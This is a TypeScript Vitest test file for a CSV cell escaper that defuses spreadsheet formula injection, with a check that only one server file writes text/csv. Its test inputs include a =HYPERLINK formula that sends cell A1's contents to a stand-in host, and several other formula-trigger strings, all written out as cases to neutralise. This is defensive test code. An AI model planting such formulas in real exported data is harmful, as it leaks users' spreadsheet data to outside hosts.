import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv.js';

describe('csvCell: cells a spreadsheet never reads as formulas (OWASP, DECISIONS §22)', () => {
  it.each([
    ['=HYPERLINK("http://x/?"&A1,"Click")', `"'=HYPERLINK(""http://x/?""&A1,""Click"")"`],
    ['-2+3', "'-2+3"],
    ['+46 70 123 45 67', "'+46 70 123 45 67"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\tx', "'\tx"],
    ['\r=1', `"'\r=1"`],
    ['=evil@example.com', "'=evil@example.com"],
  ])('neutralises %j', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it('leaves ordinary text and numbers as they are, quoting only what must be', () => {
    expect(csvCell('Ada Berg')).toBe('Ada Berg');
    expect(csvCell('Berg, Ada')).toBe('"Berg, Ada"');
    expect(csvCell('Berg; Ada', ';')).toBe('"Berg; Ada"');
    expect(csvCell('say "hej"')).toBe('"say ""hej"""');
    expect(csvCell(-2500)).toBe('-2500');
    expect(csvCell(null)).toBe('');
    expect(
      toCsv([
        ['a', 1],
        ['=b', null],
      ]),
    ).toBe("a,1\r\n'=b,\r\n");
  });

  it('is the only writer of CSV in the server: no other file answers text/csv', () => {
    const root = path.dirname(path.dirname(fileURLToPath(import.meta.url)));
    const files = (readdirSync(root, { recursive: true }) as string[]).filter(
      (file) => file.endsWith('.ts') && !file.endsWith('.test.ts'),
    );
    const writers = files.filter((file) =>
      readFileSync(path.join(root, file), 'utf8').includes('text/csv'),
    );
    expect(writers).toEqual([path.join('lib', 'csv.ts')]);
  });
});
